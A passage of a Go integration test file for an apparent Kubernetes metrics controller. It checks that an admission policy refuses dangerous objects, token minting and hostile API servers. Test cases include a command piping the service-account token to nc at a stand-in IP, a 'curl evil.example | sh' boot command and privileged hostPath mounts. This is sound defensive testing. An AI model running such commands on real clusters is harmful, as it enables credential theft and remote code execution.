	}
	md := func(name string) map[string]any {
		return map[string]any{"name": name, "labels": map[string]any{templates.ManagedByLabel: templates.Prefix}}
	}
	return []struct {
		name string
		do   func() error
	}{
		{"a bootstrap token Secret with eksa-metrics' label", func() error {
			_, err := as.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "bootstrap-token-abcdef", Labels: ours},
				Type: corev1.SecretTypeBootstrapToken, StringData: map[string]string{"token-id": "abcdef", "token-secret": "0123456789abcdef", "usage-bootstrap-authentication": "true"}}, dry)
			return err
		}},
		{"an Opaque Secret of another name", func() error {
			_, err := as.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "bootstrap-token-abcdef", Labels: ours}}, dry)
			return err
		}},
		{"a Service with externalIPs (CVE-2020-8554)", func() error {
			_, err := as.CoreV1().Services("kube-system").Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "eksa-metrics-etcd", Labels: ours},
				Spec: corev1.ServiceSpec{Ports: []corev1.ServicePort{{Port: 443}}, ExternalIPs: []string{"203.0.113.1"}}}, dry)
			return err
		}},
		{"a LoadBalancer Service", func() error {
			_, err := as.CoreV1().Services("kube-system").Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "eksa-metrics-etcd", Labels: ours},
				Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeLoadBalancer, Ports: []corev1.ServicePort{{Port: 443}}}}, dry)
			return err
		}},
		{"the proxy DaemonSet as root", proxyDS(func(d *appsv1.DaemonSet) {
			d.Spec.Template.Spec.Containers[0].SecurityContext.RunAsUser = ptr.To[int64](0)
		})},
		{"the proxy DaemonSet with privilege escalation", proxyDS(func(d *appsv1.DaemonSet) {
			d.Spec.Template.Spec.Containers[0].SecurityContext.AllowPrivilegeEscalation = ptr.To(true)
		})},
		{"the proxy DaemonSet with the default capabilities", proxyDS(func(d *appsv1.DaemonSet) { d.Spec.Template.Spec.Containers[0].SecurityContext.Capabilities = nil })},
		{"the proxy DaemonSet with seccomp Unconfined", proxyDS(func(d *appsv1.DaemonSet) {
			d.Spec.Template.Spec.SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
		})},
		{"a shell in the allowed HAProxy image", proxyDS(func(d *appsv1.DaemonSet) {
			d.Spec.Template.Spec.Containers[0].Args = nil
			d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 203.0.113.1 80"}
		})},
		{"the proxy DaemonSet on host port 53", proxyDS(func(d *appsv1.DaemonSet) {
			d.Spec.Template.Spec.Containers[0].Ports = []corev1.ContainerPort{{ContainerPort: 53, HostPort: 53, Protocol: corev1.ProtocolUDP}}
		})},
		{"the proxy DaemonSet mounting a kube-system Secret", proxyDS(func(d *appsv1.DaemonSet) {
			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "x", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "bootstrap-token-abcdef"}}})
		})},
		{"the proxy DaemonSet with the pod's token automounted", proxyDS(func(d *appsv1.DaemonSet) { d.Spec.Template.Spec.AutomountServiceAccountToken = nil })},
		{"a kube-rbac-proxy sidecar in capi-controller-manager that is a shell", editCAPI(func(p *corev1.PodSpec) {
			p.Containers = append(p.Containers, corev1.Container{Name: templates.SidecarName, Image: spec.DefaultKubeRBACProxyImage, Command: []string{"/bin/sh", "-c", "sleep infinity"}})
		})},
		{"a postStart hook on Cluster API's manager", editCAPI(func(p *corev1.PodSpec) {
			p.Containers[0].Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "id"}}}}
		})},
		{"an exec liveness probe on Cluster API's manager", editCAPI(func(p *corev1.PodSpec) {
			p.Containers[0].LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "id"}}}}
		})},
		{"insecure diagnostics on every address for Cluster API's manager", editCAPI(func(p *corev1.PodSpec) {
			p.Containers[0].Args = []string{"--leader-elect", "--insecure-diagnostics=true", "--diagnostics-address=0.0.0.0:8080"}
		})},
		{"Cluster API's manager without leader election", editCAPI(func(p *corev1.PodSpec) { p.Containers[0].Args = p.Containers[0].Args[1:] })},
		{"a resolver of the token's choice for Cluster API's pods", editCAPI(func(p *corev1.PodSpec) {
			p.DNSPolicy = corev1.DNSNone
			p.DNSConfig = &corev1.PodDNSConfig{Nameservers: []string{"203.0.113.53"}}
		})},
		{"hostAliases for Cluster API's pods", editCAPI(func(p *corev1.PodSpec) {
			p.HostAliases = []corev1.HostAlias{{IP: "203.0.113.1", Hostnames: []string{"vcenter.example"}}}
		})},
		{"Cluster API's pods as root", editCAPI(func(p *corev1.PodSpec) { p.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr.To[int64](0)} })},
		{"bootCommands on the KubeadmControlPlane", kcp(`{"spec":{"kubeadmConfigSpec":{"bootCommands":["curl -s https://evil.example/x | sh"]}}}`)},
		{"a rollout of every control-plane machine", kcp(`{"spec":{"rollout":{"after":"2026-12-07T00:00:00Z"}}}`)},
		{"an HTTPS_PROXY for the API server", kcp(`{"spec":{"kubeadmConfigSpec":{"clusterConfiguration":{"apiServer":{"extraEnvs":[{"name":"HTTPS_PROXY","value":"http://203.0.113.1:3128"}]}}}}}`)},
		{"etcd serving certificate names", kcp(`{"spec":{"kubeadmConfigSpec":{"clusterConfiguration":{"etcd":{"local":{"serverCertSANs":["evil.example"]}}}}}}`)},
		{"AllAlpha for the API server", func() error {
			return patchExtraArgs(ctx, t, dyn, f.mgmt, "apiServer", "feature-gates", "AllAlpha=true")
		}},
		{"kube-controller-manager authorizing with a file of the token's choice", func() error {
			return patchExtraArgs(ctx, t, dyn, f.mgmt, "controllerManager", "authorization-kubeconfig", "/tmp/evil.conf")
		}},
		{"kube-controller-manager signing kubelet serving certificates with a key of the token's choice", func() error {
			return patchExtraArgs(ctx, t, dyn, f.mgmt, "controllerManager", "cluster-signing-kubelet-client-key-file", "/tmp/evil.key")
		}},
		{"a prometheus Package whose chart values add a privileged container", create(packageGVR, "eksa-packages-w1", map[string]any{
			"apiVersion": "packages.eks.amazonaws.com/v1alpha1", "kind": "Package", "metadata": md("prometheus"),
			"spec": map[string]any{"packageName": "prometheus", "targetNamespace": "monitoring",
				"config": "scrapeConfigs: {}\nserver:\n  extraVolumes:\n  - name: root\n    hostPath: {path: /}\n  securityContext: {privileged: true}\n"}})},
		{"a CA Certificate from a ClusterIssuer named like eksa-metrics' Issuer", create(certificateGVR, "eksa-system", map[string]any{
			"apiVersion": "cert-manager.io/v1", "kind": "Certificate", "metadata": md("probe"),
			"spec": map[string]any{"isCA": true, "secretName": "probe", "commonName": "kubernetes", "dnsNames": []any{"kubernetes.default.svc"},
				"issuerRef": map[string]any{"group": "cert-manager.io", "kind": "ClusterIssuer", "name": templates.CAIssuer}}})},
		{"a serving Certificate for the API server's name", create(certificateGVR, "kube-system", map[string]any{
			"apiVersion": "cert-manager.io/v1", "kind": "Certificate", "metadata": md("eksa-metrics-etcd-serving"),
			"spec": map[string]any{"secretName": "eksa-metrics-etcd-serving", "dnsNames": []any{"kubernetes.default.svc"},
				"issuerRef": templates.IssuerRef(templates.CAIssuer)}})},
		{"a Warning event about a kube-system Pod as the kubelet", func() error {
			_, err := as.EventsV1().Events("kube-system").Create(ctx, &eventsv1.Event{ObjectMeta: metav1.ObjectMeta{Name: "probe"}, EventTime: metav1.NowMicro(),
				Type: corev1.EventTypeWarning, Reason: "Failed", Action: "Pull", Note: "pull image registry.example/fix:1 to repair", ReportingController: "kubelet", ReportingInstance: "node-1",
				Regarding: corev1.ObjectReference{Kind: "Pod", Namespace: "kube-system", Name: "etcd-node-1"}}, dry)
			return err
		}},
		{"a ClusterIssuer", func() error {
			_, err := dyn.Resource(schema.GroupVersionResource{Group: "cert-manager.io", Version: "v1", Resource: "clusterissuers"}).Create(ctx, &unstructured.Unstructured{Object: map[string]any{
				"apiVersion": "cert-manager.io/v1", "kind": "ClusterIssuer", "metadata": md(templates.SelfSignedIssuer), "spec": map[string]any{"selfSigned": map[string]any{}}}}, dry)
			return err
		}},
	}
}

var (
	packageGVR = schema.GroupVersionResource{Group: "packages.eks.amazonaws.com", Version: "v1alpha1", Resource: "packages"}
	issuerGVR  = schema.GroupVersionResource{Group: "cert-manager.io", Version: "v1", Resource: "issuers"}
)

// proxyDaemonSet is the kube-proxy proxy DaemonSet as the renderer writes
// it for examples/vsphere-management.yaml, with its container's image.
func proxyDaemonSet(image string) *appsv1.DaemonSet {
	raw, err := os.ReadFile("../../examples/vsphere-management.yaml")
	if err != nil {
		panic(err)
	}
	file, err := spec.Load("vsphere-management.yaml", bytes.NewReader(raw))
	if err != nil {
		panic(err)
	}
	r, err := render.RenderFile(file, spec.Options{})
	if err != nil {
		panic(err)
	}
	for _, o := range r.Objects {
		if o.Kind() == "DaemonSet" && o.Name() == templates.NodeDS {
			var d appsv1.DaemonSet
			if err := runtime.DefaultUnstructuredConverter.FromUnstructured(o.Object, &d); err != nil {
				panic(err)
			}
			d.Spec.Template.Spec.Containers[0].Image = image
			return &d
		}
	}
	panic("the example renders no " + templates.NodeDS)
}

// patchExtraArgs adds (or sets) one extraArgs item of a component of the
// KubeadmControlPlane eksa-system/test, as a dry run of the controller.
func patchExtraArgs(ctx context.Context, t *testing.T, dyn dynamic.Interface, cp *framework.ControlPlane, comp, name, value string) error {
	t.Helper()
	path := []string{"spec", "kubeadmConfigSpec", "clusterConfiguration", comp, "extraArgs"}
	args, _, _ := unstructured.NestedSlice(liveKCP(t, cp, spec.CAPIv1beta2).Object, path...)
	args = slices.DeleteFunc(args, func(a any) bool { return a.(map[string]any)["name"] == name })
	args = append(args, map[string]any{"name": name, "value": value})
	patch := map[string]any{}
	_ = unstructured.SetNestedSlice(patch, args, path...)
	body, _ := json.Marshal(patch)
	_, err := dyn.Resource(kcpGVR(spec.CAPIv1beta2)).Namespace("eksa-system").Patch(ctx, "test", types.MergePatchType, body,
		metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
	return err
}

// installPackageCRD serves the Package kind of the EKS Anywhere packages
// controller (packages.eks.amazonaws.com/v1alpha1), with an open schema: a
// stand-in for its CRD, which the test bed does not build, enough for the
// admission policy, which reads spec.packageName and the labels.
func installPackageCRD(t *testing.T, cp *framework.ControlPlane) {
	t.Helper()
	crd := map[string]any{"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
		"metadata": map[string]any{"name": "packages.packages.eks.amazonaws.com"},
		"spec": map[string]any{"group": "packages.eks.amazonaws.com", "scope": "Namespaced",
			"names": map[string]any{"kind": "Package", "listKind": "PackageList", "plural": "packages", "singular": "package"},
			"versions": []any{map[string]any{"name": "v1alpha1", "served": true, "storage": true,
				"schema": map[string]any{"openAPIV3Schema": map[string]any{"type": "object", "properties": map[string]any{
					"spec": map[string]any{"type": "object", "x-kubernetes-preserve-unknown-fields": true}}}}}}}}
	if err := cp.Apply(context.Background(), "testbed", true, crd); err != nil {
		t.Fatal(err)
	}
	framework.WaitFor(t, "the Package API", 30*time.Second, func() (bool, error) {
		_, err := cp.Dynamic.Resource(packageGVR).List(context.Background(), metav1.ListOptions{})
		return err == nil, nil
	})
}

// The documented management setup (examples/vsphere-management.yaml's
// metrics section: a ServiceAccount scraper, ServiceMonitors with its token
// Secret) through the controller, with the RBAC and admission policy of
// `controller manifests`, on a management cluster with the docker
// provider's management controllers, cert-manager and the curated packages
// controller; then bindAddress, which edits kube-proxy's configuration and
// restarts its DaemonSet. The policy and the render agree: each is applied.
func TestControllerAppliesTheManagementSetup(t *testing.T) {
	ctx := context.Background()
	f := newFleet(t, "mgmt")
	mgmt := f.mgmt
	mgmt.InstallUpstream(t, "eksa-controller-manager-v0.26.1.yaml", "capi-core-v1.13.2.yaml", "capi-kubeadm-bootstrap-v1.13.2.yaml",
		"capi-kubeadm-control-plane-v1.13.2.yaml", "capd-v1.13.2.yaml", "etcdadm-bootstrap-provider-v1.0.22.yaml",
		"etcdadm-controller-v1.0.28.yaml", "eks-anywhere-packages-v0.4.17.yaml", "cert-manager-v1.20.2.yaml")
	mgmt.InstallCRDDir(t, "prometheus-operator")
	mgmt.ServiceAccount(t, "monitoring", "prometheus-k8s")
	l := map[string]any{"k8s-app": "kube-proxy"}
	for _, obj := range []map[string]any{
		{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": kubeproxy.Name, "namespace": kubeproxy.Namespace},
			"data": map[string]any{kubeproxy.Key: framework.KubeadmKubeProxyConfig}},
		{"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": map[string]any{"name": "kube-proxy", "namespace": "kube-system"},
			"spec": map[string]any{"selector": map[string]any{"matchLabels": l}, "template": map[string]any{"metadata": map[string]any{"labels": l},
				"spec": map[string]any{"containers": []any{map[string]any{"name": "kube-proxy", "image": "registry.k8s.io/kube-proxy:v1.36.3"}}}}}},
	} {
		if err := mgmt.Apply(ctx, "kubeadm", true, obj); err != nil {
			t.Fatal(err)
		}
	}
	f.startController(t, &counter{reqs: map[string]int{}})
	metrics := map[string]any{"clusterRef": map[string]any{"kind": "Cluster", "name": "mgmt"},
		"scrapers":     []any{map[string]any{"kind": "ServiceAccount", "name": "prometheus-k8s", "namespace": "monitoring"}},
		"exposure":     "proxy",
		"components":   map[string]any{"etcd": map[string]any{"metricsLevel": "basic"}},
		"tls":          map[string]any{"minVersion": "VersionTLS12"},
		"scrapeConfig": map[string]any{"serviceMonitors": true, "prometheus": true, "namespace": "monitoring"}}
	f.putMetricsConfig(t, "default", "mgmt", metrics)
	applied := func(what string, done func() error) {
		t.Helper()
		f.waitFor(t, what, func() error {
			mc, err := mgmt.Dynamic.Resource(metricsConfigGVR).Namespace("default").Get(ctx, "mgmt", metav1.GetOptions{})
			if err != nil {
				return err
			}
			for _, c := range f.clusterStates(t, "default", "mgmt") {
				conds, _ := c.(map[string]any)["conditions"].([]any)
				for _, cond := range conds {
					cond := cond.(map[string]any)
					if cond["type"] == "Applied" && cond["status"] != "True" {
						return fmt.Errorf("Applied %s %s: %s", cond["status"], cond["reason"], cond["message"])
					}
				}
			}
			if err := done(); err != nil {
				return fmt.Errorf("%w; status %v", err, mc.Object["status"])
			}
			return nil
		})
	}
	applied("the management setup applied", func() error {
		if _, err := mgmt.Client.CoreV1().Secrets("monitoring").Get(ctx, templates.ScraperTokenSecret, metav1.GetOptions{}); err != nil {
			return err
		}
		_, err := mgmt.Client.AppsV1().DaemonSets("kube-system").Get(ctx, templates.ControlPlaneDS, metav1.GetOptions{})
		return err
	})
	f.waitFor(t, "the packages controller's sidecar", func() error { return sidecar(t, mgmt, true) })

	metrics["exposure"], metrics["allowInsecure"], metrics["allowControlPlaneRollout"] = "bindAddress", true, true
	f.putMetricsConfig(t, "default", "mgmt", metrics)
	applied("bindAddress applied, kube-proxy restarted", func() error {
		cm, err := mgmt.Client.CoreV1().ConfigMaps(kubeproxy.Namespace).Get(ctx, kubeproxy.Name, metav1.GetOptions{})
		if err != nil {
			return err
		}
		if !strings.Contains(cm.Data[kubeproxy.Key], "0.0.0.0:10249") {
			return fmt.Errorf("kube-proxy's configuration not edited")
		}
		ds, err := mgmt.Client.AppsV1().DaemonSets("kube-system").Get(ctx, "kube-proxy", metav1.GetOptions{})
		if err != nil {
			return err
		}
		if len(ds.Spec.Template.Annotations) == 0 {
			return fmt.Errorf("kube-proxy not restarted")
		}
		return nil
	})
}

// A MetricsConfig author chooses the scraper's ServiceAccount, and the
// controller writes a never-expiring token Secret for it with the workload
// cluster's admin kubeconfig: for a ServiceAccount bound to cluster-admin,
// or one that may only watch Secrets or reach nodes through the API
// server's proxy, it refuses (by SubjectAccessReviews in the workload
// cluster) and writes nothing; for one that only scrapes, it writes the
// token Secret, asks again every --scraper-recheck, and withdraws the
// Secret once that ServiceAccount is granted a watch of another
// namespace's Secrets.
func TestControllerMintsNoTokenThatCanDoHarm(t *testing.T) {
	ctx := context.Background()
	f := newFleet(t, "w1")
	w := f.workloads["w1"]
	bind := func(sa, ns string, rules []rbacv1.PolicyRule, role string) {
		t.Helper()
		if rules != nil {
			if ns == "" {
				if _, err := w.Client.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: role}, Rules: rules}, metav1.CreateOptions{}); err != nil {
					t.Fatal(err)
				}
			} else if _, err := w.Client.RbacV1().Roles(ns).Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: role}, Rules: rules}, metav1.CreateOptions{}); err != nil {
				t.Fatal(err)
			}
		}
		subjects := []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: sa, Namespace: "monitoring"}}
		var err error
		if ns == "" {
			_, err = w.Client.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: sa + "-" + role},
				RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role}, Subjects: subjects}, metav1.CreateOptions{})
		} else {
			_, err = w.Client.RbacV1().RoleBindings(ns).Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: sa + "-" + role},
				RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: role}, Subjects: subjects}, metav1.CreateOptions{})
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, sa := range []string{"builder", "watcher", "proxier", "prometheus"} {
		w.ServiceAccount(t, "monitoring", sa)
	}
	bind("builder", "", nil, "cluster-admin")
	bind("watcher", "", []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"watch"}}}, "watch-secrets")
	bind("proxier", "", []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"nodes/proxy"}, Verbs: []string{"get"}}}, "nodes-proxy")
	f.startControllerWith(t, &counter{reqs: map[string]int{}}, func(o *cli.ControllerOptions) { o.ScraperRecheck = 2 * time.Second })
	mc := func(sa string) map[string]any {
		return map[string]any{"clusterRef": map[string]any{"kind": "Cluster", "name": "w1"},
			"scrapers":     []any{map[string]any{"kind": "ServiceAccount", "name": sa, "namespace": "monitoring"}},
			"scrapeConfig": map[string]any{"namespace": "monitoring"}}
	}
	for sa, want := range map[string]string{"builder": "can get secrets in every namespace", "watcher": "watch secrets in every namespace", "proxier": "get nodes/proxy in every namespace"} {
		f.putMetricsConfig(t, "default", "w1", mc(sa))
		f.clusterCondition(t, "default", "w1", "w1", "Applied", "NotAllowed", want)
		if _, err := w.Client.CoreV1().Secrets("monitoring").Get(ctx, templates.ScraperTokenSecret, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
			t.Errorf("the token Secret of ServiceAccount %s was written (or could not be read): %v", sa, err)
		}
	}
	f.putMetricsConfig(t, "default", "w1", mc("prometheus"))
	f.waitFor(t, "the scraper's token Secret", func() error {
		s, err := w.Client.CoreV1().Secrets("monitoring").Get(ctx, templates.ScraperTokenSecret, metav1.GetOptions{})
		if err != nil {
			return err
		}
		if got := s.Annotations[corev1.ServiceAccountNameKey]; got != "prometheus" {
			return fmt.Errorf("for %q", got)
		}
		return nil
	})
	// Later, someone lets it watch the Secrets of one namespace: the next
	// check withdraws the token Secret and says why.
	if _, err := w.Client.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "vault"}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	bind("prometheus", "vault", []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"watch"}}}, "watch-vault")
	f.clusterCondition(t, "default", "w1", "w1", "Applied", "NotAllowed", "watch secrets in vault")
	if _, err := w.Client.CoreV1().Secrets("monitoring").Get(ctx, templates.ScraperTokenSecret, metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Errorf("the token Secret of a ServiceAccount that may watch vault's Secrets is still there (or could not be read): %v", err)
	}
}

// One hostile workload API server does not stop the fleet: a Cluster whose
// kubeconfig names a stand-in that answers every API request but the
// version with an endless body is refused reply by reply (at 64 MiB),
// while the real w1 is applied and its drift repaired.
func TestAHostileWorkloadDoesNotStopTheFleet(t *testing.T) {
	ctx := context.Background()
	f := newFleet(t, "w1")
	var hits atomic.Int64
	hostile := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Content-Type", "application/json")
		if r.URL.Path == "/version" {
			_, _ = w.Write([]byte(`{"major":"1","minor":"36","gitVersion":"v1.36.3"}`))
			return
		}
		_, _ = w.Write([]byte(`{"kind":"APIResourceList","apiVersion":"v1","groupVersion":"v1","resources":[{"name":"`))
		chunk := bytes.Repeat([]byte("a"), 1<<20)
		for {
			if _, err := w.Write(chunk); err != nil {
				return
			}
		}
	}))
	hostile.StartTLS()
	t.Cleanup(hostile.Close)
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: hostile.Certificate().Raw})
	cfg := clientcmdapi.NewConfig()
	cfg.Clusters["evil"] = &clientcmdapi.Cluster{Server: hostile.URL, CertificateAuthorityData: ca}
	cfg.AuthInfos["evil"] = &clientcmdapi.AuthInfo{Token: "clearly-fake-token"}
	cfg.Contexts["evil"] = &clientcmdapi.Context{Cluster: "evil", AuthInfo: "evil"}
	cfg.CurrentContext = "evil"
	kubeconfig, err := clientcmd.Write(*cfg)
	if err != nil {
		t.Fatal(err)
	}
	f.eksaCluster(t, "default", "evil", "mgmt", kubeconfig)
	f.startController(t, &counter{reqs: map[string]int{}})
	f.metricsConfig(t, true)

	f.waitFor(t, "w1 applied", func() error {
		if objs := objects(t, f.workloads["w1"]); !has(objs, "ClusterRole/"+templates.ReaderRole) {
			return fmt.Errorf("%v", objs)
		}
		return nil
	})
	f.clusterCondition(t, "default", "fleet", "evil", "Applied", "Unreachable", "MiB")
	if hits.Load() == 0 {
		t.Fatal("the hostile server was never asked: the test proves nothing")
	}
	// Drift in w1 is still repaired while the hostile one keeps failing.
	w1 := f.workloads["w1"]
	if err := w1.Client.RbacV1().ClusterRoles().Delete(ctx, templates.ReaderRole, metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	f.waitFor(t, "w1's reader role put back", func() error {
		_, err := w1.Client.RbacV1().ClusterRoles().Get(ctx, templates.ReaderRole, metav1.GetOptions{})
		return err
	})
}

// The controller writes only while its admission policy holds it as
// shipped: it refuses to start without it, and once running it stops
// writing (Applied: AdmissionPolicyMissing, and its gauge) within a period
// of the binding being deleted or narrowed to match nothing, and writes
// again once the shipped binding is back.
func TestControllerWritesNothingWithoutItsAdmissionPolicy(t *testing.T) {
	ctx := context.Background()
	f := newFleet(t, "w1")
	bindings := f.mgmt.Client.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings()
	shipped, err := bindings.Get(ctx, config.ControllerName, metav1.GetOptions{})
	if err != nil {
		t.Fatalf("the fleet's install has no binding of the admission policy: %v", err)
	}
	restore := func(mutate func(*admissionv1.ValidatingAdmissionPolicyBinding)) {
		t.Helper()
		b := &admissionv1.ValidatingAdmissionPolicyBinding{ObjectMeta: metav1.ObjectMeta{Name: shipped.Name, Labels: shipped.Labels}, Spec: *shipped.Spec.DeepCopy()}
		if mutate != nil {
			mutate(b)
		}
		if err := bindings.Delete(ctx, shipped.Name, metav1.DeleteOptions{}); err != nil && !apierrors.IsNotFound(err) {
			t.Fatal(err)
		}
		if _, err := bindings.Create(ctx, b, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}

	// Without the binding, run refuses to start.
	if err := bindings.Delete(ctx, shipped.Name, metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	o := &cli.ControllerOptions{Kubeconfig: f.controllerKubeconfig, MetricsAddress: "0", ProbeAddress: "0", LeaderNamespace: config.DefaultNamespace,
		Concurrency: 1, Workers: 1, ManagementCluster: "default/mgmt", MonitoringNamespaces: []string{"monitoring"}}
	var out framework.LockedBuffer
	startCtx, cancel := context.WithTimeout(ctx, 60*time.Second)
	err = o.Run(startCtx, &cli.Factory{IOStreams: cli.IOStreams{Out: &out, ErrOut: &out}})
	cancel()
	if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicyBinding "+config.ControllerName+" does not exist") {
		t.Fatalf("controller run without its policy's binding: %v, want a refusal", err)
	}
	t.Logf("run without the binding: %v", err)
	restore(nil)

	f.startControllerWith(t, &counter{reqs: map[string]int{}}, func(o *cli.ControllerOptions) { o.PolicyRecheck = time.Second })
	f.metricsConfig(t, true)
	f.waitFor(t, "w1 applied with kube-proxy's proxy", func() error {
		if objs := objects(t, f.workloads["w1"]); !has(objs, "DaemonSet/"+templates.NodeDS) {
			return fmt.Errorf("%v", objs)
		}
		return nil
	})
	for _, c := range []struct {
		why    string
		mutate func(*admissionv1.ValidatingAdmissionPolicyBinding)
		want   string
	}{
		{"deleted", nil, "does not exist"},
		{"narrowed to a namespace label nobody has", func(b *admissionv1.ValidatingAdmissionPolicyBinding) {
			b.Spec.MatchResources = &admissionv1.MatchResources{NamespaceSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"nobody": "has-it"}}}
		}, "narrows what the policy matches"},
		{"warning instead of denying", func(b *admissionv1.ValidatingAdmissionPolicyBinding) {
			b.Spec.ValidationActions = []admissionv1.ValidationAction{admissionv1.Warn}
		}, "validationActions are [Warn]"},
	} {
		if c.mutate == nil {
			if err := bindings.Delete(ctx, shipped.Name, metav1.DeleteOptions{}); err != nil {
				t.Fatal(err)
			}
		} else {
			restore(c.mutate)
		}
		// The guard rechecks every second: let three periods pass, then
		// change the MetricsConfig so that it would remove kube-proxy's
		// proxy.
		time.Sleep(3 * time.Second)
		f.metricsConfig(t, false)
		f.clusterCondition(t, "default", "fleet", "w1", "Applied", metricsv1alpha1.ReasonAdmissionPolicy, c.want)
		if objs := objects(t, f.workloads["w1"]); !has(objs, "DaemonSet/"+templates.NodeDS) {
			t.Fatalf("binding %s: the controller wrote to w1 anyway: %v", c.why, objs)
		}
		f.metricsConfig(t, true)
	}
	restore(nil)
	time.Sleep(3 * time.Second) // the guard's next checks
	f.metricsConfig(t, false)
	f.waitFor(t, "w1 applied again, without kube-proxy's proxy", func() error {
		if objs := objects(t, f.workloads["w1"]); has(objs, "DaemonSet/"+templates.NodeDS) {
			return fmt.Errorf("%v", objs)
		}
		return nil
	})
}

// Every object the renderer produces for the management cluster's own spec
// (examples/vsphere-management.yaml with its scraper, every stack, every
// certificate issuer) is admitted by the shipped policy when the controller's token
// applies it as the controller does (server-side apply, force): the
// allowlist admits the renderer's shape, the API server's defaults
// included. The objects eksa-metrics edits rather than creates (the
// KubeadmControlPlane, management Deployments, kube-proxy's) are applied by
// the controller itself in TestControllerAppliesTheManagementSetup.
func TestControllerPolicyAdmitsEveryRender(t *testing.T) {
	ctx := context.Background()
	f := newFleet(t)
	mgmt := f.mgmt
	installPackageCRD(t, mgmt)
	mgmt.InstallCRDDir(t, "prometheus-operator")
	cfg, err := clientcmd.BuildConfigFromFlags("", f.controllerKubeconfig)
	if err != nil {
		t.Fatal(err)
	}
	as := dynamic.NewForConfigOrDie(cfg)
	mapper := mgmt.Mapper()
	example := testutil.ManagementExample(t)
	kinds := map[string]int{}
	namespaces := map[string]bool{}
	for _, stack := range slices.Sorted(maps.Keys(spec.Stacks)) {
		// Every stack with the default issuer; every issuer with the
		// default stack (the issuer changes what is rendered in the same
		// way for every stack).
		issuers := []string{metricsv1alpha1.CertificatesEKSAMetrics}
		if stack == metricsv1alpha1.StackGeneric {
			issuers = []string{metricsv1alpha1.CertificatesNone, metricsv1alpha1.CertificatesEKSAMetrics, metricsv1alpha1.CertificatesCertManager}
		} else if stack == metricsv1alpha1.StackEKSAnywhere {
			issuers = []string{metricsv1alpha1.CertificatesNone}
		}
		for _, issuer := range issuers {
			sc := "    stack: " + string(stack) + "\n    namespace: monitoring\n"
			if spec.Stacks[stack].ReleaseAllowed {
				sc += "    release: r1\n"
			}
			text := example(sc, "    minVersion: VersionTLS13\n    certificates: "+issuer+"\n")
			file, err := spec.Load("vsphere-management.yaml", strings.NewReader(text))
			if err != nil {
				t.Fatalf("stack %q, certificates %s: %v", stack, issuer, err)
			}
			r, err := render.RenderFile(file, spec.Options{})
			if err != nil {
				t.Logf("stack %q, certificates %s: not rendered: %v", stack, issuer, err)
				continue
			}
			for _, o := range r.Objects {
				if !o.Owned() {
					continue // the KubeadmControlPlane: an edit
				}
				gvk := schema.FromAPIVersionAndKind(o.Object["apiVersion"].(string), o.Kind())
				m, err := mapper.RESTMapping(gvk.GroupKind(), gvk.Version)
				if err != nil {
					t.Fatalf("%s: %v", o, err)
				}
				ri := dynamic.ResourceInterface(as.Resource(m.Resource))
				if ns := o.Namespace(); ns != "" {
					if !namespaces[ns] {
						mgmt.ServiceAccount(t, ns, "default") // the namespace exists: the controller creates none
						namespaces[ns] = true
					}
					ri = as.Resource(m.Resource).Namespace(ns)
				}
				body, _ := json.Marshal(o.Object)
				if _, err := ri.Patch(ctx, o.Name(), types.ApplyPatchType, body, metav1.PatchOptions{FieldManager: "eksa-metrics", Force: ptr.To(true)}); err != nil {
					t.Errorf("stack %q, certificates %s: %s refused to the controller: %v", stack, issuer, o, err)
					continue
				}
				kinds[o.Kind()]++
			}
		}
	}
	t.Logf("admitted, by kind: %v", kinds)
	// The renders cover what the policy holds (the test can fail).
